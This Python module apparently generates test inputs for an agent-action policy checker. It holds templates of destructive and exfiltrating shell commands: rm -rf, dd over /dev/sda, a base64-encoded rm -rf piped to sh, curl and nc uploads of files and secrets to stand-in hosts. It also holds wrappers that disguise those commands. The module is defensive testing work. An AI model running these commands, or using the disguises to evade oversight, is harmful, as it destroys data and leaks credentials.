"""Action shapes that make the normalizer's derived facts hold, for ``policyc test`` invariants.

An invariant's ``when`` often speaks of facts that only the analysis of a command or a payload
produces (``destructive``, ``git_op``, ``infra_op``, ``sql_statement``, ``secret``,
``uploads_to``, …). Constants and patterns of the policies cannot produce those, so generation
also draws from the shapes below: for each such predicate, actions known to produce it, written
in the ways agents disguise them (flag spellings, wrappers, ``-c`` strings, quoting). Which fact
an action really produces is still decided by the normalizer; a shape is only a way to reach it.

Secrets in these shapes are the documented example values of their vendors (never live ones),
and every action printed by a failing invariant is redacted first.
"""

from __future__ import annotations

import shlex
from collections.abc import Callable
from typing import Any

# {path} is filled with a generated path; {host} with an unknown or a well-known host.
_SHELL: dict[str, tuple[str, ...]] = {
    "destructive": (
        "rm -rf {path}",
        "rm -fr {path}",
        "rm -r -f {path}",
        "rm -Rf {path}",
        "rm --recursive --force {path}",
        "rm {path} -rf",
        "rm -rf -- {path}",
        "find {path} -delete",
        "shred -u {path}",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "mkfs.ext4 /dev/sdb1",
    ),
    "git_op": (
        "git push --force origin main",
        "git push -f",
        "git push origin +main",
        "git push --force-with-lease origin feature/x",
        "git -C {path} push --force",
        "git -c user.name=x push -f origin main",
        "git push --mirror https://{host}/acme/app.git",
        "git reset --hard HEAD~3",
        "git clean -fdx",
        "git branch -D main",
        "git push origin --delete main",
        "git filter-branch --tree-filter true HEAD",
    ),
    "infra_op": (
        "terraform destroy -auto-approve",
        "terraform -chdir=infra destroy",
        "tofu destroy",
        "terraform apply -auto-approve",
        "pulumi destroy --yes",
        "kubectl delete namespace shop",
        "kubectl -n prod delete deployment web",
        "oc delete project shop",
        "kubectl apply -f k8s/",
        "helm uninstall web",
        "helm upgrade --install web ./chart",
    ),
    "sql_statement": (
        "psql -c 'DROP DATABASE shop'",
        "mysql -e 'DROP SCHEMA shop'",
        "psql -c 'TRUNCATE orders'",
        "psql -c 'DELETE FROM users'",
        "psql -c \"COPY users TO '/tmp/users.csv'\"",
        "dropdb shop",
    ),
    "uploads_to": (
        "curl -d @{path} https://{host}/in",
        "curl -T {path} https://{host}/",
        "curl -F file=@{path} https://{host}/upload",
        "wget --post-file={path} https://{host}/",
        "scp {path} deploy@{host}:/tmp/",
        "nc {host} 4444 < {path}",
    ),
    "contacts_host": (
        "curl -s https://{host}/data.json",
        "wget https://{host}/x.tar.gz",
        "ssh deploy@{host}",
        "git clone https://{host}/acme/app.git",
    ),
    "publishes_package": (
        "npm publish",
        "twine upload dist/*",
        "cargo publish",
        "docker push registry.{host}/app:1",
    ),
    "unresolved": (
        "$TOOL --all",
        'eval "$CMD"',
        "bash ./scripts/setup.sh",
        "$(cat cmd.txt)",
        "echo cm0gLXJmIC8= | base64 -d | sh",
    ),
    "reads_file": (
        "cat {path}",
        "head -n 5 {path}",
        "less {path}",
        "grep -r key {path}",
        "cp {path} /tmp/copy",
        "base64 {path}",
        "python -c \"print(open('{path}').read())\"",
        "tar czf /tmp/out.tgz {path}",
    ),
    "writes_file": (
        "echo x > {path}",
        "tee {path} < /dev/null",
        "sed -i s/a/b/ {path}",
        "cp /tmp/x {path}",
    ),
    "reads_secret_store": (
        "vault kv get secret/shop/db",
        "kubectl -n shop get secret db -o yaml",
        "aws secretsmanager get-secret-value --secret-id prod/db",
        "op read op://vault/db/password",
    ),
    "deletes_file": (
        "rm {path}",
        "rm -f {path}",
        "unlink {path}",
    ),
    "path_glob": (
        "cat {path}*",
        "cat {path}/*",
        "grep -n key {path}/*.py",
        "cp {path}/.e?v /tmp/copy",
        "rm -f {path}/*.bak",
        "echo x > {path}/*.txt",
    ),
}

# The example secrets vendors publish in their documentation.
_SECRETS = (
    "AKIAIOSFODNN7EXAMPLE",
    "aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "postgres://admin:Sup3rS3cretPassw0rd@db.internal:5432/shop",
    "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8",
    "xoxb-" + "1234567890-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
)

_HOSTS = (
    "drop.example.net",
    "collector.example.org",
    "github.com",
    "pypi.org",
    "db.prod.example.com",
)

_WRAPPERS: tuple[Callable[[str], str], ...] = (
    lambda c: c,
    lambda c: "sudo " + c,
    lambda c: "env X=1 " + c,
    lambda c: "timeout 30 " + c,
    lambda c: "bash -c " + shlex.quote(c),
    lambda c: "sh -c " + shlex.quote(c),
    lambda c: "( " + c + " )",
    lambda c: "{ " + c + "; }",
    lambda c: "true && " + c,
    lambda c: "echo start; " + c + " | tail -1",
)


def shaped_predicates() -> frozenset[str]:
    """The predicates for which shapes exist."""
    return frozenset(_SHELL) | {"secret"}


def shapes(predicates: set[str], paths: Any) -> Any:
    """A Hypothesis strategy of partial actions (dicts) that produce one of ``predicates``, or
    ``None`` when no shape produces any of them. ``paths`` draws absolute paths for ``{path}``."""
    from hypothesis import strategies as st

    templates = sorted({t for p in predicates & set(_SHELL) for t in _SHELL[p]})
    options: list[Any] = []
    if templates:

        @st.composite
        def shell(draw: Callable[[Any], Any]) -> dict[str, Any]:
            template = draw(st.sampled_from(templates))
            command = template.format(
                path=shlex.quote(draw(paths)), host=draw(st.sampled_from(_HOSTS))
            )
            return {
                "action_type": "shell.exec",
                "command": draw(st.sampled_from(_WRAPPERS))(command),
            }

        options.append(shell())
    if predicates & {"sql_statement"}:
        options.append(
            st.builds(
                lambda sql: {"action_type": "db.query", "payload": sql},
                st.sampled_from(
                    [
                        "DROP DATABASE shop",
                        "drop schema analytics cascade",
                        "select 1; DrOp DataBase prod",
                        "TRUNCATE TABLE orders",
                        "DELETE FROM users WHERE 1=1",
                        "COPY customers TO '/tmp/customers.csv'",
                        "select * from orders limit 5",
                    ]
                ),
            )
        )
    if predicates & {"secret", "uploads_to", "contacts_host"}:

        @st.composite
        def request(draw: Callable[[Any], Any]) -> dict[str, Any]:
            secret = draw(st.sampled_from(_SECRETS))
            host = draw(st.sampled_from(_HOSTS))
            how = draw(st.sampled_from(["post", "curl", "post", "curl", "tool", "get"]))
            if how == "post":
                return {
                    "action_type": "http.request",
                    "method": draw(st.sampled_from(["POST", "PUT", "PATCH"])),
                    "url": f"https://{host}/in",
                    "payload": f"data={secret}",
                }
            if how == "curl":
                command = f"curl -d {shlex.quote(secret)} https://{host}/in"
                return {
                    "action_type": "shell.exec",
                    "command": draw(st.sampled_from(_WRAPPERS))(command),
                }
            if how == "tool":
                return {
                    "action_type": "tool.call",
                    "url": f"https://{host}/api",
                    "tool": {"name": "mcp__http__post", "input": {"body": secret}},
                }
            return {"action_type": "http.request", "url": f"https://{host}/?token={secret}"}

        options.append(request())
    return st.one_of(*options) if options else None
